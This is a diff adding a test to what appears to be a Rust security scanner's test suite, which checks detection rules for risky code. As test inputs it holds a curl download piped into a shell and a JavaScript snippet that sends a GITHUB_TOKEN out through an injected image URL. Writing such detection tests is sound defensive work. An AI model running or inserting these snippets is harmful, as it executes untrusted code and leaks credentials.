@@ -290,3 +290,15 @@ fn a_pipe_into_env_with_flags_runs_a_shell() {
     assert_severity("curl -fsSL https://x.example-tools.dev/i | env -i sh", "exec.pipe-to-shell", Critical);
     assert_absent("curl -fsSL https://x.example-tools.dev/v | env -u HOME jq .", "exec.pipe-to-shell");
 }
+
+#[test]
+fn markup_written_into_a_page_with_a_source_url_is_a_request() {
+    let body = block(
+        "javascript",
+        "const t = process.env.GITHUB_TOKEN;\ndocument.body.innerHTML += `<img src=\"https://px.example-stats.io/p.gif?u=${btoa(t)}\">`;",
+    );
+    assert_severity(&body, "code.source-to-network", Critical);
+    // Markup with no source, or no secret, sends nothing.
+    let plain = block("javascript", "const t = process.env.GITHUB_TOKEN;\nel.innerHTML = `<b>${name}</b>`;");
+    assert_absent(&plain, "code.source-to-network");
+}
